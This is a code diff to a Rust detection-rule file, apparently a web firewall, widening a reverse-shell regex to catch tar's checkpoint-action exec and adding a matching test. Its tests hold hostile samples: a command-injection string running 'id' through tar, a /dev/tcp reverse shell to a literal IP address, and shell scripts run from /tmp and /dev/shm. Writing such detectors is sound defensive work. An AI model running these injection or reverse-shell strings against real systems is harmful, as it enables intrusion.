@@ -435,7 +435,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
             ATTACK,
             CMD,
             Regex(
-                r##"/dev/(?:tcp|udp)/|\$\{?[a-z_]\w*\}?/(?:tcp|udp)/[\w.-]+/\d+|\b(?:ba|z|k|da)?sh\s+-[ic]\b|\bnc(?:at)?(?:\.exe)?\s+(?:-[a-z]*[ec]\s|-l)|\b(?:python[\d.]*|perl|ruby|php|node|lua)\s+-[erc]\s|\bmkfifo\s+/tmp|\b(?:ba|z|k|da)?sh\s+(?:-\w+\s+)*/(?:tmp|var/tmp|dev/shm)/|(?:^|[;|&\s`(])/bin/(?:ba|z|k|c|da|tc)?sh\b(?:\s+-[ic]|\s*$|\s*[;|&<>])|\bexec\s+\d*<>|\bxterm\s+-display|\b(?:curl|wget)\s[^|;&]*\|\s*(?:ba|z)?sh\b|\bchmod\s+[+0-7]*x?\s+/tmp|\btelnet\s+\S+\s+\d+\s*\||/inet/(?:tcp|udp)/\d+/"##,
+                r##"/dev/(?:tcp|udp)/|\$\{?[a-z_]\w*\}?/(?:tcp|udp)/[\w.-]+/\d+|\b(?:ba|z|k|da)?sh\s+-[ic]\b|\bnc(?:at)?(?:\.exe)?\s+(?:-[a-z]*[ec]\s|-l)|\b(?:python[\d.]*|perl|ruby|php|node|lua)\s+-[erc]\s|\bmkfifo\s+/tmp|--checkpoint-action\s*=\s*exec\b|\b(?:ba|z|k|da)?sh\s+(?:-\w+\s+)*/(?:tmp|var/tmp|dev/shm)/|(?:^|[;|&\s`(])/bin/(?:ba|z|k|c|da|tc)?sh\b(?:\s+-[ic]|\s*$|\s*[;|&<>])|\bexec\s+\d*<>|\bxterm\s+-display|\b(?:curl|wget)\s[^|;&]*\|\s*(?:ba|z)?sh\b|\bchmod\s+[+0-7]*x?\s+/tmp|\btelnet\s+\S+\s+\d+\s*\||/inet/(?:tcp|udp)/\d+/"##,
             ),
             "Reverse shell or remote script execution",
         ),
@@ -1270,6 +1270,11 @@ mod tests {
         assert!(fires(932140, "d=/dev&&(sh)0>$d/tcp/51.15.142.164/777"));
         // A shell running a script dropped in a temporary directory.
         assert!(fires(932140, "bash /tmp/evil.sh"));
+        // GNU tar runs a command at a checkpoint.
+        assert!(fires(
+            932140,
+            ";tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=id"
+        ));
         assert!(fires(932140, "x; sh -x /dev/shm/.a"));
         assert!(!fires(932140, "bash /home/me/build.sh"));
         assert!(!fires(932140, "the fish /tmp folder"));
